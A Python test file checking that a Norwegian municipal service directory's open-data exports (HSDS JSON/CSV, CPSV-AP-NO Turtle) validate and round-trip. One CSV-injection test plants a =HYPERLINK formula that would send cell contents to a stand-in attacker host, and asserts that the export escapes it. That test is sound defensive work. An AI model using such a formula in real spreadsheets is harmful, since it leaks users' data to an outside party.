"""Spec: the service directory is published as HSDS-shaped open data that validates and round-trips."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json

import jsonschema
import pycountry
from conftest import DEMO, ROOT
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.content.loader import load
from hub.exports import HSDS_TABLES, opendata
from hub.time.hours import day_hours


def test_export_validates_against_the_published_schema(demo_site):
    data = json.loads((demo_site / "apne-data/hsds.json").read_text("utf-8"))
    schema = json.loads((demo_site / "apne-data/schema.json").read_text("utf-8"))
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(data)
    assert len(data["services"]) == sum(len(d.services) for d in load(DEMO).districts) + len(load(DEMO).shared)


#: Open Referral's compiled HSDS 3.0 schemas, unchanged (CC BY-SA 4.0; tests/reference/README.md).
HSDS = ROOT / "tests/reference/hsds-3.0"


def _errors(schema_file: str, items: list[dict]) -> list[str]:
    schema = json.loads((HSDS / schema_file).read_text("utf-8"))
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    return [f"{item.get('name')}: {'/'.join(map(str, e.absolute_path))}: {e.message}"
            for item in items for e in validator.iter_errors(item)]


def test_every_service_and_the_organization_pass_the_official_hsds_3_schemas(demo_site):
    data = json.loads((demo_site / "apne-data/hsds.json").read_text("utf-8"))
    assert data["hsds_version"] == "3.0" and len(data["services"]) > 70
    assert _errors("service.json", data["services"]) == []
    assert _errors("organization.json", data["organizations"]) == []


def test_the_official_schemas_catch_what_the_export_once_got_wrong():
    """A guard on the guard: the shapes #12 found (nulls, IANA names in ``timezone``, one-string addresses)."""
    bad = {"id": "0d4e5f0e-1c1e-5b1e-9c1e-1c1e1c1e1c1e", "name": "X", "status": "active", "url": None,
           "phones": [{"number": "1"}],
           "service_at_locations": [{"id": "0d4e5f0e-1c1e-5b1e-9c1e-1c1e1c1e1c1f",
                                     "location": {"id": "0d4e5f0e-1c1e-5b1e-9c1e-1c1e1c1e1c10",
                                                  "location_type": "physical",
                                                  "addresses": [{"address_1": "Storgata 1, 3017 Drammen"}]},
                                     "schedules": [{"id": "0d4e5f0e-1c1e-5b1e-9c1e-1c1e1c1e1c11",
                                                    "timezone": "Europe/Oslo", "freq": None}]}]}
    found = "\n".join(_errors("service.json", [bad]))
    for expected in ("url: None is not of type 'string'", "phones/0: 'id' is a required property",
                     "addresses/0: 'postal_code' is a required property", "timezone: 'Europe/Oslo' is not of type",
                     "freq: None is not of type 'string'"):
        assert expected in found, expected


def test_schedules_carry_iana_zone_and_validity_windows(demo_site):
    data = json.loads((demo_site / "apne-data/hsds.json").read_text("utf-8"))
    rows = [r for s in data["services"] for r in opendata.rows_of(s)]
    assert {(r["timezone"], r["x_timezone"]) for r in rows} == {(1, "Europe/Oslo")}
    assert all(v is not None for r in rows for v in r.values())
    assert any(r.get("freq") == "WEEKLY" and r.get("valid_from") == "2027-06-21" for r in rows)  # summer hours
    assert any("freq" not in r and r["description"] == "Stengt i romjulen" and r["valid_to"] == "2026-12-30"
               for r in rows)
    assert any("freq" not in r and r["description"] == "Første juledag" and r["x_closed"] for r in rows)
    assert any("freq" not in r and "valid_to" not in r and r.get("x_closed") for r in rows)  # stengt inntil videre


def test_addresses_come_in_parts(demo_site):
    data = json.loads((demo_site / "apne-data/hsds.json").read_text("utf-8"))
    addresses = {a["address_1"]: a for s in data["services"] for sal in s["service_at_locations"]
                 for a in sal["location"]["addresses"]}
    assert addresses["Bragernes torg 2"] | {"id": ""} == {
        "id": "", "address_1": "Bragernes torg 2", "postal_code": "3017", "city": "Drammen",
        "state_province": "Buskerud", "country": "NO", "address_type": "physical"}
    assert all(a["city"] and a["country"] == "NO" for a in addresses.values())


def test_export_round_trips_to_the_same_hours_and_facts():
    portal = load(DEMO)
    data = opendata.export(portal)
    reloaded = json.loads(json.dumps(data))
    by_id = {s["id"]: s for s in reloaded["services"]}
    checked = 0
    for district, svc in [(d, s) for d in portal.districts for s in d.services] + [(None, s) for s in portal.shared]:
        owner = f"{district.slug if district else 'kommune'}/{svc.slug}"
        out = by_id[opendata._id(portal, owner)]
        assert (out["name"], out.get("description"), out["x_category"], out.get("x_district")) == (
            svc.meta.title, svc.meta.summary, svc.meta.category, district.slug if district else None)
        assert out.get("email") == (svc.meta.contact.email if svc.meta.contact else None)
        hours = svc.meta.hours or (district.config.hub.hours if district and svc.meta.location is None else None)
        if hours is None:
            assert opendata.rows_of(out) == []
            continue
        back = opendata.hours_from(opendata.rows_of(out))
        for n in range(opendata.HOLIDAY_DAYS):
            day = portal.today + dt.timedelta(n)
            assert day_hours(back, day, portal.calendar).ranges == day_hours(hours, day, portal.calendar).ranges, (
                owner, day)
        checked += 1
    assert checked > 60


def test_csv_tables_hold_the_same_rows(demo_site):
    data = json.loads((demo_site / "apne-data/hsds.json").read_text("utf-8"))
    services = list(csv.DictReader(io.StringIO((demo_site / "apne-data/services.csv").read_text("utf-8"))))
    schedules = list(csv.DictReader(io.StringIO((demo_site / "apne-data/schedules.csv").read_text("utf-8"))))
    assert {s["id"] for s in services} == {s["id"] for s in data["services"]}
    assert len(schedules) == sum(len(opendata.rows_of(s)) for s in data["services"])
    # Every table is published, under the names the incremental build keeps them by.
    assert sorted(p.stem for p in (demo_site / "apne-data").glob("*.csv") if p.stem != "planer") \
        == sorted(opendata.COLUMNS) == sorted(HSDS_TABLES)


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text_and_the_json_is_unchanged(tree, tmp_path):
    """OWASP's CSV injection: a title like =HYPERLINK(…) must open as text, not as a live formula."""
    from hub.pipeline.steps import build

    tree.write("districts/nordby/services/lenke.md", """---
        title: =HYPERLINK("https://angriper.example/?"&A1;"Klikk her")
        category: helse
        summary: "@SUM(1+1)"
        contact: {phone: "+47 32 04 00 00"}
        ---
        Tekst.
        """)
    tree.write("districts/nordby/district.yaml", (tree.root / "districts/nordby/district.yaml").read_text("utf-8")
               .replace("  address: Storgata 1, 3000 Nordby\n", "  address: Storgata 1, 3000 Nordby\n"
                        "  coordinates: {lat: 70.98, lon: -8.5}\n"))
    build(tree.root, tmp_path / "site", search=False)
    services = list(csv.DictReader(io.StringIO((tmp_path / "site/apne-data/services.csv").read_text("utf-8"))))
    row = next(r for r in services if "HYPERLINK" in r["name"])
    assert row["name"] == "'=HYPERLINK(\"https://angriper.example/?\"&A1;\"Klikk her\")"
    assert row["description"] == "'@SUM(1+1)" and row["phone"] == "'+47 32 04 00 00"
    assert all(not cell.startswith(opendata.FORMULA_START) for r in services for cell in r.values() if cell)
    locations = list(csv.DictReader(io.StringIO((tmp_path / "site/apne-data/locations.csv").read_text("utf-8"))))
    assert "-8.5" in {r["longitude"] for r in locations}  # a number the export computed stays a number
    data = json.loads((tmp_path / "site/apne-data/hsds.json").read_text("utf-8"))
    service = next(s for s in data["services"] if "HYPERLINK" in s["name"])
    assert service["name"].startswith("=HYPERLINK") and service["phones"][0]["number"] == "+47 32 04 00 00"


# --- CPSV-AP-NO: the catalogue data.norge.no harvests --------------------------------------

CPSV_AP_NO = ROOT / "tests/reference/cpsv-ap-no"


def shacl(data):
    """pySHACL with Digdir's official shapes: (number of violations, number of all results, report text)."""
    import pyshacl
    from rdflib import Graph
    from rdflib.namespace import SH

    shapes = Graph().parse(CPSV_AP_NO / "CPSV-AP-NO_shacl_shapes_v1.ttl")
    ontologies = Graph().parse(CPSV_AP_NO / "ontologies.ttl")
    _, report, text = pyshacl.validate(data, shacl_graph=shapes, ont_graph=ontologies, inference="none")
    results = list(report.subjects(SH.resultSeverity, None))
    violations = list(report.subjects(SH.resultSeverity, SH.Violation))
    return len(violations), len(results), text


def test_the_service_catalogue_passes_digdirs_cpsv_ap_no_shapes(demo_site):
    from rdflib import Graph

    data = Graph().parse(demo_site / "apne-data/tjenester.ttl")
    violations, results, text = shacl(data)
    assert (violations, results) == (0, 0), text[:4000]


def test_every_service_the_portal_lists_is_in_the_catalogue_with_its_hours(demo_site):
    from rdflib import Graph, Namespace, URIRef
    from rdflib.namespace import RDF

    cpsv, cv, dct = (Namespace("http://purl.org/vocab/cpsv#"), Namespace("http://data.europa.eu/m8g/"),
                     Namespace("http://purl.org/dc/terms/"))
    schema = Namespace("https://schema.org/")
    g = Graph().parse(demo_site / "apne-data/tjenester.ttl")
    portal = load(DEMO)
    services = set(g.subjects(RDF.type, cpsv.PublicService))
    assert services == {URIRef(f"https://knutepunkt.example.no/tjenester/{kind}/") for kind in portal.kinds}
    org = URIRef("https://data.brreg.no/enhetsregisteret/api/enheter/921234554")
    assert all((s, cv.hasCompetentAuthority, org) in g for s in services)
    helse = URIRef("https://knutepunkt.example.no/tjenester/helsestasjon/")
    points = set(g.objects(helse, cv.contactPoint))
    assert len(points) == len(portal.kinds["helsestasjon"])
    bragernes = URIRef("https://knutepunkt.example.no/bragernes/tjenester/helsestasjon/#kontaktpunkt")
    assert bragernes in points
    weekly = {(str(d).rsplit("/", 1)[1], str(o), str(c)) for h in g.objects(bragernes, cv.openingHours)
              for d in g.objects(h, schema.dayOfWeek) for o in g.objects(h, schema.opens)
              for c in g.objects(h, schema.closes)}
    assert {("Monday", "08:30:00", "15:30:00"), ("Wednesday", "17:00:00", "20:00:00")} <= weekly
    special = {str(d) for h in g.objects(bragernes, cv.specialOpeningHoursSpecification)
               for d in g.objects(h, dct.description)}
    assert {"Første juledag", "Stengt i romjulen"} <= special  # a public holiday and a dated exception
    titles = {t.language for s in services for t in g.objects(s, dct.title)}
    assert titles == {"nb"}


def test_the_shapes_would_catch_a_service_without_its_authority(demo_site):
    from rdflib import Graph, Namespace

    g = Graph().parse(demo_site / "apne-data/tjenester.ttl")
    g.remove((None, Namespace("http://data.europa.eu/m8g/").hasCompetentAuthority, None))
    violations, _, text = shacl(g)
    assert violations >= 10 and "hasCompetentAuthority" in text


def test_the_catalogues_own_turtle_writer_says_exactly_what_the_graph_holds():
    """Tricky names and texts survive: quotes, newlines, language tags, datatypes, names no prefix can shorten."""
    import datetime as dt

    from rdflib import Graph, Literal, URIRef
    from rdflib.compare import isomorphic
    from rdflib.namespace import DCTERMS, RDF, XSD

    from hub.exports.cpsv import CV, VCARD, turtle

    g = Graph()
    s = URIRef("https://example.no/tjenester/helse-stasjon/#kanal")
    g.add((s, RDF.type, CV.Channel))
    g.add((s, DCTERMS.title, Literal('«Helse» "stasjon"\nandre linje \\ slutt', lang="nb")))
    g.add((s, DCTERMS.modified, Literal(dt.date(2026, 11, 24))))
    g.add((s, VCARD["country-name"], Literal("Norge", lang="nb")))
    g.add((s, DCTERMS.identifier, Literal("42", datatype=XSD.integer)))
    g.add((s, DCTERMS.relation, URIRef("https://schema.org/Thing.")))  # a trailing dot cannot be prefixed
    g.add((s, DCTERMS.relation, URIRef("http://purl.org/dc/terms/")))  # the namespace itself
    g.add((URIRef("https://example.no/a%20b"), DCTERMS.title, Literal("x")))
    text = turtle(g)
    assert isomorphic(Graph().parse(data=text, format="turtle"), g)
    assert text == turtle(g)
    assert "vcard:country-name" in text.decode() and "<https://schema.org/Thing.>" in text.decode()


def test_the_languages_a_service_is_given_in_reach_hsds_and_cpsv_ap_no(demo_site):
    """HSDS's languages are those the staff speak (an interpreter is said apart); CPSV-AP-NO's
    dct:language every language the service is given in, as the EU's authority codes."""
    from rdflib import Graph, URIRef
    from rdflib.namespace import DCTERMS

    data = json.loads((demo_site / "apne-data/hsds.json").read_text("utf-8"))
    station = next(s for s in data["services"] if s.get("x_district") == "bragernes"
                   and s["x_service_key"] == "helsestasjon")
    assert [(x["code"], x["name"]) for x in station["languages"]] == [
        ("nb", "norsk bokmål"), ("en", "engelsk"), ("pl", "polsk")]
    assert all(x["service_id"] == station["id"] for x in station["languages"])
    assert station["interpretation_services"] == "Tolk kan bestilles"
    assert _errors("service.json", [station]) == []
    table = (demo_site / "apne-data/languages.csv").read_text("utf-8").splitlines()
    assert table[0] == "id,service_id,name,code" and any(row.endswith(",polsk,pl") for row in table)
    graph = Graph().parse(demo_site / "apne-data/tjenester.ttl")
    svc = URIRef("https://knutepunkt.example.no/tjenester/helsestasjon/")
    found = {str(o).rsplit("/", 1)[-1] for o in graph.objects(svc, DCTERMS.language)}
    assert found == {"NOB", "ENG", "POL"}


_LANGUAGES = sorted({c for lang in pycountry.languages for c in (getattr(lang, "alpha_2", None), lang.alpha_3) if c})


@given(code=st.sampled_from(_LANGUAGES) | st.from_regex(r"[a-zA-Z]{2,3}", fullmatch=True))
@settings(max_examples=300, deadline=None)
def test_a_language_code_is_named_by_its_iso_639_3_code_as_pycountry_looks_it_up(code):
    """The catalogue names a language by the EU authority's code, ISO 639-3 upper-case (``nb`` → NOB), read
    from pycountry's table without its index; an unknown code stands as it is, upper-case."""
    from hub.content.languages import EU_LANGUAGE, eu_language

    found = pycountry.languages.get(alpha_2=code) if len(code) == 2 else pycountry.languages.get(alpha_3=code)
    assert eu_language(code) == EU_LANGUAGE + (found.alpha_3 if found is not None else code).upper()


_subjects = st.lists(st.text(alphabet="<>abc-/#:1", min_size=1, max_size=8), unique=True, max_size=30)


@settings(max_examples=200, deadline=None)
@given(data=st.data())
def test_a_catalogue_spliced_from_kept_pieces_is_the_catalogue_made_whole(data):
    """A district's Turtle blocks are kept as their text (:func:`cpsv.piece`) and spliced into the
    catalogue in runs; wherever other blocks sort between them, in between. Byte for byte what
    sorting every block gives, however the subjects of the pieces and the loose blocks interleave."""
    from hub.exports import cpsv

    subjects = data.draw(_subjects)
    rest = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12)
    blocks = [(s, f"{s} {data.draw(rest)}") for s in subjects]
    owner = [data.draw(st.integers(-1, 3)) for _ in blocks]  # -1: a loose block (the head's)
    loose = [b for b, o in zip(blocks, owner, strict=True) if o < 0]
    kept = [cpsv.read_piece(cpsv.piece(sorted(b for b, o in zip(blocks, owner, strict=True) if o == p)))
            for p in range(4)]
    whole = "\n".join([f"@prefix {p}: <{ns}> ." for p, ns in sorted(cpsv.PREFIXES.items())]
                      + [f"\n{block}" for _, block in sorted(blocks)]) + "\n"  # the catalogue as ever written
    assert cpsv.document(loose, kept) == cpsv.document(blocks) == whole.encode()


@settings(max_examples=200, deadline=None)
@given(noise=st.binary(max_size=60), cut=st.integers(0, 400))
def test_a_kept_piece_of_the_catalogue_is_read_back_only_as_this_code_writes_it(noise, cut):
    """The cache may hold anything where a piece was: what is not blocks each starting with its
    subject, in order, in UTF-8, is refused (made again), never spliced."""
    from hub.exports import cpsv

    made = cpsv.piece([("<a>", "<a> x ;\n\n    y ."), ("<b>", "<b> «z» .")])
    assert cpsv.read_piece(made).text == "\n\n<a> x ;\n\n    y .\n\n<b> «z» .".encode()
    for damaged in (made[:cut] if cut < len(made) else None, noise, made + noise if noise else None,
                    made.replace(b"<b> ", b"<c> "), made.replace(b"\xc2\xab", b"\xff\xab")):  # not UTF-8
        if damaged is None:
            continue
        try:
            found = cpsv.read_piece(damaged)
        except ValueError:
            continue
        assert damaged == made or cpsv.piece(list(zip(found.subjects, _blocks_of(found), strict=True))) == damaged


def _blocks_of(found):
    starts = [0, *found.ends]
    return [found.text[a + 2:b].decode() for a, b in itertools.pairwise(starts)]
